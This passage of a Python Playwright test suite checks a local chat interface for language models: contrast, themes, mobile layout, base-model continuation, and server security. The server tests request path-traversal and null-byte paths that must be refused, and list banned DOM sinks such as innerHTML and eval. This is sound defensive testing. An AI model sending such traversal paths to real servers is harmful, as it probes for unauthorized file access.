    tokens = [[f"{p}", math.log(p), []] for p in (1, 0.8, 0.6, 0.4, 0.2, 0.001)]
    code = "```python\n# a\ndef f(): return 'x', 1\n```\n[a](https://a.example)"
    messages = [
        {"id": "a", "parent": None, "role": "user", "content": "?"}, {"id": "b", "parent": "a", "role": "assistant", "content": code, "finish": "error", "error": "x"},
        {"id": "c", "parent": "b", "role": "user", "content": "?"}, {"id": "d", "parent": "c", "role": "assistant", "content": "?", "tokens": tokens},
    ]  # fmt: skip
    id = api(site, "/api/conversations", {"messages": messages})["id"]
    for scheme in ("light", "dark"):
        page = visit(f"/#{id}", color_scheme=scheme)
        page.locator(".code .keyword").first.wait_for()
        body = ("body", "backgroundColor")
        for text in (".quiet", ".words a", ".fault", ".send", ".tools .quiet"):
            assert contrast(page, body, (text, "color")) > 4.5, (scheme, text)
        for kind in ("comment", "string", "number", "keyword"):
            assert contrast(page, (".code", "backgroundColor"), (f".code .{kind}", "color")) > 4.5, (scheme, kind)
        assert contrast(page, ("#shelf", "backgroundColor"), (".shelf-list h2", "color")) > 4.5
        assert contrast(page, (".item.here", "backgroundColor"), (".item.here .name", "color")) > 4.5
        page.click("#tokens-toggle")
        steps = [(f'.strip .token[data-index="{i}"]', "backgroundColor") for i in range(6)]
        assert contrast(page, steps[-1], ("body", "color")) > 4.5, (scheme, "the least likely token")
        alphas = page.evaluate("""() => [...document.querySelectorAll('.strip .token')].map((t) => {
          const found = getComputedStyle(t).backgroundColor.match(/oklab\\([^/]*(?:\\/ ([\\d.]+))?\\)/);
          return Number(found[1] ?? 1);
        })""")
        assert alphas == pytest.approx([0, 0.2, 0.4, 0.6, 0.8, 0.999], abs=0.01), (
            "even steps of probability are even steps of colour"
        )
        luminances = page.evaluate(LUMINANCE, [list(step) for step in steps])
        assert luminances == sorted(luminances, reverse=scheme == "light"), "lightness alone tells them apart"


def test_light_and_dark(visit: Callable[..., Page]) -> None:
    for scheme in ("light", "dark"):
        page = visit(color_scheme=scheme)
        ready(page)
        paper, ink = lightness(page)
        assert (paper > ink) == (scheme == "light")
        assert (max(paper, ink) + 0.05) / (min(paper, ink) + 0.05) > 7, "WCAG AAA for text"
    page.click("#theme")  # auto -> light, on a dark system
    assert page.locator("#theme").inner_text() == "Theme: light"
    paper, ink = lightness(page)
    assert paper > ink
    page.reload()
    paper, ink = lightness(page)
    assert paper > ink, "the choice is kept"


def test_a_phone(visit: Callable[..., Page], site: Server) -> None:
    id = keep(site, "A question", SAMPLE.read_text() + "\n" + "unbroken" * 40)
    page = visit(f"/#{id}", viewport={"width": 380, "height": 720}, has_touch=True, is_mobile=True)
    page.locator(TURNS).wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") == 380, "nothing is wider than the screen"
    assert page.evaluate("document.querySelector('#thread').scrollWidth <= 380")
    page.tap("#shelf-toggle")
    page.locator(".item.here").get_by_role("button", name="Rename").wait_for()
    page.touchscreen.tap(370, 400)  # beside the shelf
    page.wait_for_function("() => !document.body.classList.contains('shelf-open')")
    page.fill("#composer-text", "one")
    page.press("#composer-text", "Enter")
    assert page.input_value("#composer-text") == "one\n", "there Enter is a new line"


# --- a model that does not chat


def test_a_base_model_goes_on_with_a_text(
    visit: Callable[..., Page], start: Callable[..., Server], tmp_path: Path
) -> None:
    data = BUILT_IN.read_bytes()
    (tmp_path / "base.gguf").write_bytes(data.replace(b"tokenizer.chat_template", b"tokenizer.chat_templatX"))
    server = start(str(tmp_path / "base.gguf"))
    page = visit(server=server)
    field = page.get_by_label("The text that is continued")
    field.fill("Once upon a time there was a wind")
    field.press("Control+Enter")
    page.get_by_role("button", name="Another way").wait_for()
    first = field.input_value()
    assert first.startswith("Once upon a time there was a wind") and len(first) > 60
    page.get_by_role("button", name="Another way").click()
    page.get_by_role("group", name="Branch 2 of 2").wait_for()
    assert field.input_value() != first
    page.get_by_role("button", name="Previous branch").click()
    assert field.input_value() == first
    field.fill(first + " The end was")
    page.get_by_role("button", name="Continue").click()
    page.wait_for_function(
        "n => document.querySelector('.manuscript').value.length > n && document.querySelector('#send').textContent === 'Send'",
        arg=len(first) + 14,
    )
    text = field.input_value()
    file = kept(page, server)
    assert file["kind"] == "text" and [m["role"] for m in file["messages"]] == [
        "user",
        "assistant",
        "assistant",
        "user",
        "assistant",
    ]
    assert file["messages"][3]["content"] == " The end was"
    page.reload()
    page.wait_for_function("text => document.querySelector('.manuscript')?.value === text", arg=text)
    page.click("#tokens-toggle")
    assert page.locator(".strip .token").count() == len(file["messages"][4]["tokens"])


# --- what the server sends


def test_only_known_files_under_a_strict_policy(site: Server) -> None:
    with urllib.request.urlopen(site.url + "/") as answer:
        policy = answer.headers["Content-Security-Policy"]
        tag = answer.headers["ETag"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "require-trusted-types-for 'script'" in policy
    request = urllib.request.Request(site.url + "/", headers={"If-None-Match": tag})
    assert status(request) == 304
    for path in (
        "/page/",
        "/page/..%2fpage.py",
        "/page/%2e%2e/access.py",
        "/page/page.py",
        "/page/index.htm",
        "/page/.",
        "/page/app.js%00",
    ):
        assert status(site.url + path) == 404, path


def status(request: Any) -> int:
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request, timeout=10)
    caught.value.close()
    return caught.value.code


def test_the_page_is_plain() -> None:
    """No markup from strings, no inline style or script, nothing from elsewhere, files one can read."""
    folder = Path(__file__).parents[2] / "src" / "bise" / "server" / "page"
    for path in folder.iterdir():
        text = path.read_text(encoding="utf-8")
        assert len(text.splitlines()) <= 350, path.name
        if path.suffix == ".js":
            for word in (
                "innerHTML",
                "outerHTML",
                "insertAdjacentHTML",
                "document.write",
                "eval(",
                "new Function",
                "DOMParser",
                "createContextualFragment",
                "srcdoc",
            ):
                assert word not in text, (path.name, word)
        if path.suffix in (".html", ".css"):
            assert not re.search(r"https?://|\sstyle=|\son\w+=|@import|url\(", text), path.name
